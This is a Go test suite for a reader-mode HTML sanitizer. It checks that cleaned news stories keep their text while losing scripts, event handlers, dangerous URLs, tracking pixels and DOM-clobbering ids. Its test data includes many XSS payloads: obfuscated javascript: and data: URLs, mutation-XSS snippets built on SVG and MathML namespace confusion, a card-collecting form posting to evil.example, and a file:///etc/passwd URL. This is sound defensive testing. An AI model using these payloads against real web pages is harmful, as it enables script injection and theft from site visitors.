package reader_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"cleanread/reader"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// storyURL is the page URL the security tests clean their stories under.
const storyURL = "https://news.example/2026/harbour-plan"

var (
	rxStoryID     = regexp.MustCompile(`^cr-[\w-]{1,64}$`)
	rxRasterData  = regexp.MustCompile(`^data:image/(png|jpeg|jpg|gif|webp|avif);base64,`)
	rxHTTP        = regexp.MustCompile(`^https?://`)
	rxRemoteInCSS = regexp.MustCompile(`(?i)url\s*\(`)
)

// forbiddenElements may never appear in cleaned content, whatever the page.
var forbiddenElements = map[string]bool{
	"script": true, "style": true, "iframe": true, "frame": true, "frameset": true, "object": true,
	"embed": true, "applet": true, "form": true, "input": true, "button": true, "select": true,
	"textarea": true, "base": true, "meta": true, "link": true, "template": true, "noscript": true,
	"svg": true, "math": true, "video": true, "audio": true, "source": true, "track": true, "area": true,
	"map": true, "title": true, "xmp": true, "plaintext": true, "noembed": true, "noframes": true,
	"dialog": true, "canvas": true, "portal": true,
}

// forbiddenAttrs may never appear on any element of cleaned content.
var forbiddenAttrs = map[string]bool{
	"style": true, "srcdoc": true, "action": true, "formaction": true, "name": true, "background": true,
	"ping": true, "poster": true, "xmlns": true, "is": true, "autofocus": true, "tabindex": true,
	"contenteditable": true, "data": true, "usemap": true, "form": true,
}

// browserURL reads a URL attribute the way a browser does: leading and
// trailing C0 controls and spaces stripped, tabs and newlines removed, the
// scheme lower-cased.
func browserURL(v string) string {
	v = strings.TrimFunc(v, func(r rune) bool { return r <= ' ' })
	v = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(v)
	if scheme, rest, ok := strings.Cut(v, ":"); ok && !strings.ContainsAny(scheme, "/?#") {
		return strings.ToLower(scheme) + ":" + rest
	}
	return v
}

// parseContent parses content the way the view does (DOMParser puts it in
// a document's body) and returns the body.
func parseContent(t *testing.T, content string) *html.Node {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(content))
	require.NoError(t, err)
	var body *html.Node
	walk(doc, func(n *html.Node) {
		if body == nil && n.Type == html.ElementNode && n.Data == "body" {
			body = n
		}
	})
	require.NotNil(t, body)
	return body
}

// walk calls fn for n and every node under it, in document order.
func walk(n *html.Node, fn func(*html.Node)) {
	fn(n)
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walk(c, fn)
	}
}

// assertSafe checks what every cleaned story promises, on the tree a browser
// builds from it: no active or foreign elements, no event handlers or other
// forbidden attributes, only allowed URLs, only cr- ids, links that leave
// the view in a new tab without opener or referrer — and no mutation: the
// content is what you get when it is parsed and serialized again, and
// sanitizing it again changes nothing.
func assertSafe(t *testing.T, content string) {
	t.Helper()
	body := parseContent(t, content)
	walk(body, func(n *html.Node) {
		if n.Type == html.CommentNode {
			t.Errorf("comment in content: %q", n.Data)
		}
		if n.Type != html.ElementNode || n == body {
			return
		}
		assert.False(t, forbiddenElements[n.Data], "forbidden element <%s> in %s", n.Data, content)
		assert.Empty(t, n.Namespace, "foreign element <%s %s>", n.Namespace, n.Data)
		attrs := map[string]string{}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			attrs[key] = a.Val
			assert.Empty(t, a.Namespace, "namespaced attribute %s:%s", a.Namespace, a.Key)
			assert.False(t, strings.HasPrefix(key, "on"), "event handler %s=%q on <%s>", a.Key, a.Val, n.Data)
			assert.False(t, forbiddenAttrs[key] || strings.HasPrefix(key, "data-"), "forbidden attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
			v := browserURL(a.Val)
			switch key {
			case "id":
				assert.Regexp(t, rxStoryID, a.Val, "id without the cr- prefix")
			case "href":
				ok := rxHTTP.MatchString(v) || strings.HasPrefix(v, "mailto:") || rxStoryID.MatchString(strings.TrimPrefix(v, "#")) && strings.HasPrefix(v, "#")
				assert.True(t, ok, "href %q", a.Val)
			case "src":
				assert.True(t, rxHTTP.MatchString(v) || rxRasterData.MatchString(v), "src %q", a.Val)
			case "cite":
				assert.Regexp(t, rxHTTP, v, "cite %q", a.Val)
			case "srcset":
				for _, cand := range strings.Split(a.Val, ",") {
					assert.Regexp(t, rxHTTP, browserURL(strings.Fields(cand + " x")[0]), "srcset candidate %q", cand)
				}
			}
		}
		if n.Data == "a" && attrs["href"] != "" {
			rel := strings.Fields(attrs["rel"])
			for _, want := range []string{"noreferrer", "nofollow"} {
				assert.Contains(t, rel, want, "link %q", attrs["href"])
			}
			if !strings.HasPrefix(attrs["href"], "#") {
				assert.Equal(t, "_blank", attrs["target"], "link %q must open a new tab", attrs["href"])
				assert.Contains(t, rel, "noopener", "link %q", attrs["href"])
			} else {
				assert.Empty(t, attrs["target"], "in-story link %q stays in the view", attrs["href"])
			}
		}
		if n.Data == "img" {
			assert.Equal(t, "no-referrer", attrs["referrerpolicy"], "image %q", attrs["src"])
			assert.Equal(t, "lazy", attrs["loading"], "image %q", attrs["src"])
		}
	})
	assert.Equal(t, tokenForm(t, content), treeForm(t, body), "content changes when parsed and serialized again (mutation XSS risk)")
	assert.Equal(t, content, reader.ReadingPolicy().Sanitize(content), "sanitizing again changes the content")
}

// assertStoryKept checks that the six paragraphs of storyWith survived.
func assertStoryKept(t *testing.T, a *reader.Article, upTo int) {
	t.Helper()
	for i := 1; i <= upTo; i++ {
		assert.Contains(t, a.TextContent, fmt.Sprintf("voted, %d, to send", i), "story paragraph %d lost", i)
	}
}

// hostileCase is a snippet placed inside a realistic story.
type hostileCase struct {
	name    string
	snippet string
	keep    []string // text of the snippet that must stay in TextContent
	gone    []string // lower-case strings that must not be in the content
	paras   int      // story paragraphs that must survive (default 6)
}

var hostileCases = []hostileCase{
	// Event handlers.
	{name: "img onerror and onload", snippet: `<p>Photo: <img src="https://img.example/a.jpg" width="600" height="400" alt="harbour" onerror="alert(1)" OnLoad="alert(2)"></p>`,
		gone: []string{"onerror", "onload", "alert("}},
	{name: "handlers on text elements", snippet: `<p onclick="alert(1)" onmouseover=alert(2) ONFOCUS="alert(3)" tabindex=0 autofocus contenteditable>Keep this paragraph of handled text.</p>`,
		keep: []string{"Keep this paragraph of handled text."}, gone: []string{"onclick", "onmouseover", "onfocus", "alert(", "tabindex", "autofocus", "contenteditable"}},
	{name: "details ontoggle", snippet: `<details open ontoggle="alert(1)"><summary>More detail</summary><p>The detail text stays.</p></details>`,
		keep: []string{"The detail text stays."}, gone: []string{"ontoggle", "alert("}},
	{name: "handler on a link", snippet: `<p>Read <a href="https://ok.example/report" onmouseover="alert(1)" onfocusin=alert(2)>the full report</a> online.</p>`,
		keep: []string{"the full report"}, gone: []string{"onmouseover", "onfocusin", "alert("}},
	{name: "svg onload", snippet: `<p>Chart: <svg onload="alert(1)"><circle r="5" onclick="alert(2)"/></svg></p>`, gone: []string{"<svg", "alert("}},
	{name: "attribute quote breakout", snippet: `<p>See <a href="https://ok.example/" title='x" onmouseover="alert(1)'>this page</a> for more.</p>`,
		keep: []string{"this page"}},
	{name: "handler with odd separators", snippet: `<p>Odd <img/src="https://img.example/b.jpg"/width="600"/height="400"/onerror=alert(1)/alt=x> spacing.</p>`,
		gone: []string{"onerror", "alert("}},
	// Elements that act.
	{name: "script in the story", snippet: `<p>Before the script.</p><script>alert(1)</script><script src="https://evil.example/x.js"></script><p>After the script.</p>`,
		keep: []string{"Before the script.", "After the script."}, gone: []string{"<script", "alert(", "evil.example"}},
	// A base element anywhere in the page sets where its relative links go, for
	// the page as for us: the link goes where the page's own link went, and
	// the base element itself never reaches our page.
	{name: "base element", snippet: `<base href="https://evil.example/"><p>Relative <a href="/local/page">local page</a> link.</p>`,
		keep: []string{"local page"}, gone: []string{"<base"}},
	{name: "meta refresh", snippet: `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>After the meta element.</p>`,
		keep: []string{"After the meta element."}, gone: []string{"<meta", "refresh", "evil.example"}},
	{name: "form and formaction", snippet: `<form action="https://evil.example/collect" method="post"><p>Enter your card:</p><input name="card"><button formaction="https://evil.example/b">Pay</button></form><p>After the form.</p>`,
		keep: []string{"After the form."}, gone: []string{"<form", "<input", "<button", "action", "evil.example", "enter your card"}},
	{name: "style element", snippet: `<style>body{display:none} @import url(https://evil.example/x.css);</style><p>After the style.</p>`,
		keep: []string{"After the style."}, gone: []string{"<style", "display:none", "url(", "evil.example"}},
	{name: "style attribute overlay", snippet: `<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/t.gif)">Styled paragraph text stays.</p>`,
		keep: []string{"Styled paragraph text stays."}, gone: []string{"style=", "position", "url(", "evil.example"}},
	{name: "link elements", snippet: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p"><p>After the links.</p>`,
		keep: []string{"After the links."}, gone: []string{"<link", "evil.example"}},
	{name: "iframe srcdoc", snippet: `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><iframe src="https://evil.example/frame"></iframe><p>After the frames.</p>`,
		keep: []string{"After the frames."}, gone: []string{"<iframe", "srcdoc", "alert(", "evil.example"}},
	{name: "object and embed", snippet: `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><embed src="https://evil.example/x.swf"></object><p>After the plugins.</p>`,
		keep: []string{"After the plugins."}, gone: []string{"<object", "<embed", "evil.example"}},
	{name: "template", snippet: `<template><img src="x" onerror="alert(1)"><p>Template text.</p></template><p>After the template.</p>`,
		keep: []string{"After the template."}, gone: []string{"<template", "alert(", "template text"}},
	{name: "noscript title breakout", snippet: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><p>After the noscript.</p>`,
		keep: []string{"After the noscript."}, gone: []string{"<noscript", "onerror", "alert("}},
	{name: "escaped markup stays text", snippet: `<p>Type &lt;script&gt;alert(1)&lt;/script&gt; into the box.</p>`,
		keep: []string{"Type <script>alert(1)</script> into the box."}, gone: []string{"<script"}},
	{name: "comments", snippet: `<!--<img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(2)> --><p>After the comments.</p>`,
		keep: []string{"After the comments."}, gone: []string{"<!--", "onerror", "alert("}},
	{name: "markup in an alt attribute", snippet: `<p><img src="https://img.example/c.jpg" width="600" height="400" alt="<img src=x onerror=alert(1)>"></p>`,
		gone: []string{"<img src=x"}},
	// Namespace confusion and raw-text elements (mutation XSS).
	{name: "svg style img", snippet: `<svg><p><style><img src=x onerror=alert(1)></style></p></svg><p>After svg one.</p>`,
		keep: []string{"After svg one."}, gone: []string{"<svg", "<style", "onerror", "alert("}},
	{name: "math mtext mglyph style", snippet: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>After math one.</p>`,
		keep: []string{"After math one."}, gone: []string{"<math", "<mglyph", "<style", "onerror", "alert("}},
	// The page's own markup swallows the rest of the story into MathML.
	{name: "form math namespace switch", snippet: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form><p>After math two.</p>`,
		paras: 3, gone: []string{"<math", "<form", "onerror", "alert("}},
	{name: "svg closing p then style", snippet: `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg><p>After svg two.</p>`,
		keep: []string{"After svg two."}, gone: []string{"<svg", "<style", "onerror", "alert("}},
	{name: "math mi mglyph svg mtext textarea", snippet: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math><p>After math three.</p>`,
		keep: []string{"After math three."}, gone: []string{"<math", "<svg", "<textarea", "onerror", "alert("}},
	{name: "svg cdata", snippet: `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><p>After the cdata.</p>`,
		keep: []string{"After the cdata."}, gone: []string{"cdata[", "onerror", "alert("}},
	{name: "annotation-xml html", snippet: `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)><p>Annotated text.</p></annotation-xml></math><p>After math four.</p>`,
		keep: []string{"After math four."}, gone: []string{"<math", "annotation", "onerror", "alert("}},
	{name: "svg foreignObject", snippet: `<svg><foreignObject><p>Foreign paragraph.</p><img src=x onerror=alert(1)></foreignObject></svg><p>After svg three.</p>`,
		keep: []string{"After svg three."}, gone: []string{"<svg", "foreignobject", "alert("}},
	{name: "raw-text elements", snippet: `<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(2)></textarea><title><img src=x onerror=alert(3)></title><noembed><img src=x onerror=alert(4)></noembed><noframes><img src=x onerror=alert(5)></noframes><p>After the raw text.</p>`,
		keep: []string{"After the raw text."}, gone: []string{"<xmp", "<textarea", "<title", "<noembed", "<noframes", "onerror", "alert("}},
	// The page's own markup swallows the rest of the story into a template.
	{name: "select template style", paras: 3, snippet: `<select><template><style></template><img src=x onerror=alert(1)></style></select><p>After the select.</p>`,
		gone: []string{"<select", "<template", "<style", "onerror", "alert("}},
	{name: "plaintext swallows the rest", snippet: `<plaintext><img src=x onerror=alert(1)>`, paras: 3,
		gone: []string{"<plaintext", "<img"}},
	{name: "table foster parenting", snippet: `<table><tr><td>Cell text.</td></tr><p>Fostered <img src=x onerror=alert(1)> paragraph.</p></table>`,
		keep: []string{"Cell text."}, gone: []string{"onerror", "alert("}},
	// Links: target and rel.
	{name: "target and rel from the page are replaced", snippet: `<p>Go <a href="https://other.example/x" target="_top" rel="opener">elsewhere</a> or <a href="/local" target="_self" rel="external">home</a>.</p>`,
		keep: []string{"elsewhere", "home"}, gone: []string{"_top", "_self", `rel="opener`, "external"}},
}

// badURLs are script, document and malformed URLs written the ways pages use
// to slip them past filters, raw as they appear in the HTML source.
var badURLs = []struct{ name, url string }{
	{"javascript", "javascript:alert(1)"},
	{"mixed case", "JaVaScRiPt:alert(1)"},
	{"leading spaces", "   javascript:alert(1)"},
	{"leading control character", "\x01\x02javascript:alert(1)"},
	{"decimal entity", "&#106;avascript:alert(1)"},
	{"padded entity without semicolon", "&#0000106avascript:alert(1)"},
	{"hex entity", "&#x6A;&#x61;vascript:alert(1)"},
	{"named colon entity", "javascript&colon;alert(1)"},
	{"tab inside the scheme", "java\tscript:alert(1)"},
	{"tab entity inside the scheme", "jav&#x09;ascript:alert(1)"},
	{"newline inside the scheme", "java\nscript:alert(1)"},
	{"carriage return entity inside the scheme", "java&#x0D;script:alert(1)"},
	{"vbscript", "vbscript:msgbox(1)"},
	{"upper-case vbscript", " VBScript:msgbox(1)"},
	{"data html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
	{"data html plain", "DATA:text/html,<script>alert(1)</script>"},
	{"data svg", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
	{"data javascript", "data:application/javascript,alert(1)"},
}

// urlSlots are the URL attributes a bad URL is tried in.
var urlSlots = []struct {
	name, format string
	keep         string
}{
	{"a href", `<p>A <a href="%s">bad link</a> in a sentence.</p>`, "bad link"},
	{"img src", `<p><img src="%s" width="600" height="400" alt="bad image"> An image.</p>`, "An image."},
	{"img srcset", `<p><img src="https://img.example/ok.jpg" srcset="%s 2x, https://img.example/ok-3.jpg 3x" width="600" height="400" alt="ok"></p>`, ""},
	{"picture source", `<picture><source srcset="%s"><img src="https://img.example/p.jpg" alt="pic" width="600" height="400"></picture>`, ""},
	{"blockquote cite", `<blockquote cite="%s"><p>A quoted line stays.</p></blockquote>`, "A quoted line stays."},
	{"q cite", `<p>She said <q cite="%s">a short quote</q> today.</p>`, "a short quote"},
	{"form action and formaction", `<form action="%[1]s"><button formaction="%[1]s">Send</button></form><p>After the form.</p>`, "After the form."},
	{"video poster", `<video poster="%s" src="%[1]s"></video><p>After the video.</p>`, "After the video."},
	{"iframe src", `<iframe src="%s"></iframe><p>After the frame.</p>`, "After the frame."},
	{"object data and embed src", `<object data="%[1]s"><embed src="%[1]s"></object><p>After the object.</p>`, "After the object."},
	{"area href", `<map name="m"><area href="%s" shape="rect" coords="0,0,1,1"></map><p>After the map.</p>`, "After the map."},
}

func TestHostileSnippets(t *testing.T) {
	c := reader.New()
	for _, hc := range hostileCases {
		t.Run(hc.name, func(t *testing.T) {
			checkHostile(t, c, hc)
		})
	}
}

func TestScriptURLsInEveryURLAttribute(t *testing.T) {
	c := reader.New()
	for _, slot := range urlSlots {
		for _, bad := range badURLs {
			t.Run(slot.name+"/"+bad.name, func(t *testing.T) {
				hc := hostileCase{snippet: fmt.Sprintf(slot.format, bad.url), gone: []string{"script:", "alert(", "msgbox", "data:text", "data:application", "svg+xml"}}
				if slot.keep != "" {
					hc.keep = []string{slot.keep}
				}
				a := checkHostile(t, c, hc)
				if slot.name == "img srcset" {
					assert.Contains(t, a.Content, `srcset="https://img.example/ok-3.jpg 3x"`, "the good candidate stays")
				}
				if slot.name == "picture source" {
					assert.Contains(t, a.Content, `src="https://img.example/p.jpg"`, "the picture's own img stays")
				}
			})
		}
	}
}

// checkHostile cleans hc.snippet inside a story and checks the result.
func checkHostile(t *testing.T, c *reader.Cleaner, hc hostileCase) *reader.Article {
	t.Helper()
	a, err := c.CleanString(storyWith(hc.snippet, false), storyURL)
	require.NoError(t, err)
	paras := hc.paras
	if paras == 0 {
		paras = 6
	}
	assertStoryKept(t, a, paras)
	for _, k := range hc.keep {
		assert.Contains(t, a.TextContent, k)
	}
	lower := strings.ToLower(a.Content)
	for _, g := range hc.gone {
		assert.NotContains(t, lower, g)
	}
	assertSafe(t, a.Content)
	return a
}

func TestLinksOpenInANewTabWithoutOpenerOrReferrer(t *testing.T) {
	snippet := `<p>Links: <a href="https://other.example/a">absolute</a>, <a href="/relative/b">relative</a>, ` +
		`<a href="c.html">document-relative</a>, <a href="//cdn.example/d">protocol-relative</a>, ` +
		`<a href="mailto:desk@news.example">mail</a>, <a href="#notes">in-story</a>.</p><h2 id="notes">Notes</h2>`
	a, err := reader.New().CleanString(storyWith(snippet, false), storyURL)
	require.NoError(t, err)
	assertSafe(t, a.Content)
	body := parseContent(t, a.Content)
	links := map[string]map[string]string{}
	walk(body, func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "a" {
			attrs := map[string]string{}
			for _, at := range n.Attr {
				attrs[at.Key] = at.Val
			}
			links[strings.TrimSpace(textOfNode(n))] = attrs
		}
	})
	want := map[string]string{
		"absolute":          "https://other.example/a",
		"relative":          "https://news.example/relative/b",
		"document-relative": "https://news.example/2026/c.html",
		"protocol-relative": "https://cdn.example/d",
		"mail":              "mailto:desk@news.example",
		"in-story":          "#cr-notes",
	}
	for text, href := range want {
		require.Contains(t, links, text)
		assert.Equal(t, href, links[text]["href"], text)
		rel := strings.Fields(links[text]["rel"])
		assert.Subset(t, rel, []string{"noreferrer", "nofollow"}, text)
		if text == "in-story" {
			assert.NotContains(t, links[text], "target")
			continue
		}
		assert.Equal(t, "_blank", links[text]["target"], text)
		assert.Contains(t, rel, "noopener", text)
	}
}

func TestRelativeLinksWithoutAPageURLAreDropped(t *testing.T) {
	snippet := `<p>See <a href="/relative/b">a relative link</a> and <img src="/img/a.jpg" width="600" height="400" alt="relative image">.</p>`
	a, err := reader.New().CleanString(storyWith(snippet, false), "")
	require.NoError(t, err)
	assertSafe(t, a.Content)
	assert.Contains(t, a.TextContent, "a relative link", "the link text stays")
	assert.NotContains(t, a.Content, "/relative/b", "a relative link would land on our own origin")
	assert.NotContains(t, a.Content, "/img/a.jpg", "a relative image would be fetched from our own origin")
}

func TestIDsCannotClobberTheView(t *testing.T) {
	snippet := `<p>As the <a href="#notes">notes</a> say, and <a href="` + storyURL + `#sources">the sources</a> and <a href="#fn1">footnote 1</a> and <a href="#nowhere">a dead link</a>.</p>` +
		`<img name="cleanread" src="https://img.example/n.jpg" width="600" height="400" alt="named">` +
		`<form id="document" name="forms"><input name="location"></form>` +
		`<p id="location">Location paragraph.</p><p id="alert">Alert paragraph.</p><div id="__proto__"><p>Proto paragraph.</p></div>` +
		`<p id="location">A duplicate id.</p><p id="Überblick 2026">Unicode id.</p>` +
		`<h2 id="notes">Notes</h2><p>First note.</p><h2 id="sources">Sources</h2><p><a name="fn1">1</a> The first footnote.</p>`
	a, err := reader.New().CleanString(storyWith(snippet, false), storyURL)
	require.NoError(t, err)
	assertSafe(t, a.Content)

	body := parseContent(t, a.Content)
	ids := map[string]int{}
	hrefs := map[string]string{}
	walk(body, func(n *html.Node) {
		if n.Type != html.ElementNode {
			return
		}
		for _, at := range n.Attr {
			assert.NotEqual(t, "name", at.Key, "name attribute on <%s>", n.Data)
			if at.Key == "id" {
				ids[at.Val]++
			}
			if at.Key == "href" && n.Data == "a" {
				hrefs[strings.TrimSpace(textOfNode(n))] = at.Val
			}
		}
	})
	for id, count := range ids {
		assert.Equal(t, 1, count, "id %q repeats", id)
		assert.Regexp(t, rxStoryID, id)
	}
	for _, global := range []string{"document", "location", "alert", "cleanread", "forms", "__proto__", "cr-", "notes", "sources"} {
		assert.NotContains(t, ids, global, "an element could shadow %q", global)
	}
	// Fragment links keep working: each points at an id in the story.
	for text, id := range map[string]string{"notes": "cr-notes", "the sources": "cr-sources", "footnote 1": "cr-fn1"} {
		assert.Equal(t, "#"+id, hrefs[text], text)
		assert.Contains(t, ids, id, "the target of %q", text)
	}
	assert.Contains(t, ids, "cr-location")
	assert.Contains(t, ids, "cr-__proto__")
	assert.Contains(t, ids, "cr-_dcberblick_202026")
	assert.NotContains(t, hrefs, "a dead link", "a fragment link with no target loses its href")
	assert.Contains(t, a.TextContent, "a dead link")
}

func TestRemoteResources(t *testing.T) {
	const pixel = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
	snippet := `<figure><img src="https://img.example/lead.jpg" srcset="https://img.example/lead-2.jpg 2x" width="800" height="500" alt="lead"><figcaption>The harbour wall.</figcaption></figure>` +
		`<p><img src="` + pixel + `" data-src="https://img.example/lazy.jpg" data-srcset="https://img.example/lazy-2.jpg 2x" class="lazy" width="640" height="360" alt="lazy"></p>` +
		`<p><img src="` + pixel + `" class="lazyload" width="640" height="360" alt="placeholder"><noscript><img src="https://img.example/noscript.jpg" width="640" height="360" alt="noscript"></noscript></p>` +
		`<picture><source srcset="https://img.example/pic.webp 1x, https://img.example/pic-2.webp 2x" type="image/webp"><img src="https://img.example/pic.jpg" width="640" height="360" alt="picture"></picture>` +
		`<p style="background:url(https://img.example/bg.jpg)">Background paragraph.<span style="background-image:url('https://img.example/bg2.jpg')">!</span></p>` +
		`<table background="https://img.example/table.jpg"><tr><td background="https://img.example/td.jpg">Cell.</td></tr></table>` +
		`<p>Inline <img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" width="16" height="16" alt="inline icon"> icon.</p>` +
		`<p>Trackers: <img src="https://track.example/p.gif" width="1" height="1" alt="">` +
		`<img src="https://track.example/q.gif" width="0" height="0" alt="">` +
		`<img src="https://track.example/r.gif" style="display:none" alt="">` +
		`<img src="https://track.example/s.gif" style="width:1px;height:1px" alt="">` +
		`<img src="https://track.example/t.gif" hidden alt="">` +
		`<img src="https://track.example/u.gif" style="visibility: hidden" alt="">` +
		`<img src="https://track.example/v.gif" style="opacity:0" alt=""> end.</p>`
	for _, block := range []bool{true, false} {
		t.Run(fmt.Sprintf("block=%v", block), func(t *testing.T) {
			a, err := reader.New(reader.WithBlockRemoteImages(block)).CleanString(storyWith(snippet, false), storyURL)
			require.NoError(t, err)
			assertStoryKept(t, a, 6)
			assertSafe(t, a.Content)
			lower := strings.ToLower(a.Content)
			assert.NotContains(t, lower, "track.example", "tracking pixels are dropped either way")
			assert.NotContains(t, lower, "data-src")
			assert.NotContains(t, lower, "<noscript")
			assert.False(t, rxRemoteInCSS.MatchString(a.Content), "CSS url() in %s", a.Content)
			assert.NotContains(t, lower, "background=")
			assert.NotContains(t, lower, "background:")
			assert.Contains(t, a.Content, "inline icon", "inline data images are no request: kept")
			assert.Contains(t, a.TextContent, "Background paragraph.")

			body := parseContent(t, a.Content)
			var remote []string
			walk(body, func(n *html.Node) {
				if n.Type != html.ElementNode {
					return
				}
				for _, at := range n.Attr {
					switch at.Key {
					case "src", "srcset", "poster", "style", "background", "data":
						if strings.Contains(strings.ToLower(at.Val), "http") || strings.Contains(at.Val, "//") {
							remote = append(remote, n.Data+" "+at.Key+"="+at.Val)
						}
					}
				}
			})
			if block {
				assert.Empty(t, remote, "with remote images blocked, showing the story requests nothing")
				return
			}
			for _, want := range []string{"lead.jpg", "lead-2.jpg", "lazy.jpg", "lazy-2.jpg", "noscript.jpg", "pic.jpg", "pic.webp"} {
				assert.Contains(t, a.Content, "https://img.example/"+want, "the story's own images load")
			}
		})
	}
}

func TestMetadataIsText(t *testing.T) {
	page := `<!doctype html><html lang="en"><head>` +
		`<title>Harbour &lt;script&gt;alert(1)&lt;/script&gt; vote</title>` +
		`<meta property="og:title" content="Harbour &lt;script&gt;alert(1)&lt;/script&gt;` + "\x07" + ` vote">` +
		`<meta name="author" content="Mara &lt;img src=x onerror=alert(2)&gt;` + "\x01\u001b" + ` Jensen">` +
		`<meta property="og:site_name" content="Ledger &lt;b onmouseover=alert(3)&gt;Daily&lt;/b&gt;` + "\t\n" + `">` +
		`<meta property="og:description" content="About &lt;iframe src=javascript:alert(4)&gt;` + "\r" + `the wall.">` +
		`<meta property="og:image" content="%s">` +
		`</head><body><article><h1>Harbour vote</h1>` + strings.Repeat(fmt.Sprintf(storyPara, 1), 6) + `</article></body></html>`
	a, err := reader.New().CleanString(fmt.Sprintf(page, "https://img.example/lead.jpg"), storyURL)
	require.NoError(t, err)
	assert.Equal(t, "Harbour <script>alert(1)</script> vote", a.Title, "markup in the title is literal text")
	assert.Equal(t, "Mara <img src=x onerror=alert(2)> Jensen", a.Byline)
	assert.Equal(t, "Ledger <b onmouseover=alert(3)>Daily</b>", a.SiteName)
	assert.Equal(t, "About <iframe src=javascript:alert(4)> the wall.", a.Excerpt)
	assert.Equal(t, "https://img.example/lead.jpg", a.Image)
	for _, field := range []string{a.Title, a.Byline, a.SiteName, a.Excerpt} {
		assert.False(t, strings.ContainsFunc(field, func(r rune) bool { return r < ' ' || r == 0x7f }), "control character in %q", field)
	}

	for _, bad := range []string{
		"javascript:alert(1)", " JavaScript:alert(1)", "java&#x09;script:alert(1)", "vbscript:msgbox(1)",
		"data:image/svg+xml;base64,PHN2Zy8+", "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;", "file:///etc/passwd",
	} {
		t.Run("image "+bad, func(t *testing.T) {
			a, err := reader.New().CleanString(fmt.Sprintf(page, bad), storyURL)
			require.NoError(t, err)
			assert.Empty(t, a.Image, "the lead image must be an http(s) URL or an inline raster image")
		})
	}
}

func TestHostilePages(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "hostile", "*.html"))
	require.NoError(t, err)
	require.NotEmpty(t, files)
	for _, f := range files {
		src, err := os.ReadFile(f)
		require.NoError(t, err)
		for _, block := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/block=%v", filepath.Base(f), block), func(t *testing.T) {
				a, err := reader.New(reader.WithBlockRemoteImages(block)).CleanString(string(src), "https://hostile.example/story")
				require.NoError(t, err)
				assert.Contains(t, a.TextContent, "The story of this page survives", "the page's story is kept")
				assertSafe(t, a.Content)
				walk(parseContent(t, a.Content), func(n *html.Node) {
					for _, at := range n.Attr {
						if at.Key != "title" && at.Key != "alt" {
							assert.NotContains(t, at.Val, "alert(", "a payload survives in %s=%q", at.Key, at.Val)
						}
					}
				})
				if block {
					assert.NotRegexp(t, `(src|srcset)="[^"]*https?:`, a.Content)
				}
			})
		}
	}
}

func TestFixturePagesAreStable(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "pages", "*", "source.html"))
	require.NoError(t, err)
	for _, f := range files {
		t.Run(filepath.Base(filepath.Dir(f)), func(t *testing.T) {
			src, err := os.ReadFile(f)
			require.NoError(t, err)
			a, err := reader.New().CleanString(string(src), "https://ledger.example/news/story")
			require.NoError(t, err)
			assertSafe(t, a.Content)
		})
	}
}

// tokenForm re-emits content token by token, as written, with each tag's
// attributes sorted and void elements self-closed: the markup before any
// tree building.
func tokenForm(t *testing.T, content string) string {
	t.Helper()
	var sb strings.Builder
	z := html.NewTokenizer(strings.NewReader(content))
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		if tok.Type == html.StartTagToken || tok.Type == html.SelfClosingTagToken {
			sortAttrs(tok.Attr)
			if voidElements[tok.Data] {
				tok.Type = html.SelfClosingTagToken
			}
		}
		sb.WriteString(tok.String())
	}
	return sb.String()
}

// treeForm serializes the children of body, the tree a browser builds, with
// each element's attributes sorted (x/net/html sorts those of formatting
// elements while parsing; browsers keep the written order).
func treeForm(t *testing.T, body *html.Node) string {
	t.Helper()
	walk(body, func(n *html.Node) { sortAttrs(n.Attr) })
	var sb strings.Builder
	for c := body.FirstChild; c != nil; c = c.NextSibling {
		require.NoError(t, html.Render(&sb, c))
	}
	return sb.String()
}

func sortAttrs(attrs []html.Attribute) {
	slices.SortFunc(attrs, func(a, b html.Attribute) int { return strings.Compare(a.Key, b.Key) })
}

var voidElements = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true, "hr": true, "img": true, "input": true,
	"link": true, "meta": true, "source": true, "track": true, "wbr": true,
}

// textOfNode returns the text under n.
func textOfNode(n *html.Node) string {
	var sb strings.Builder
	walk(n, func(d *html.Node) {
		if d.Type == html.TextNode {
			sb.WriteString(d.Data)
		}
	})
	return sb.String()
}
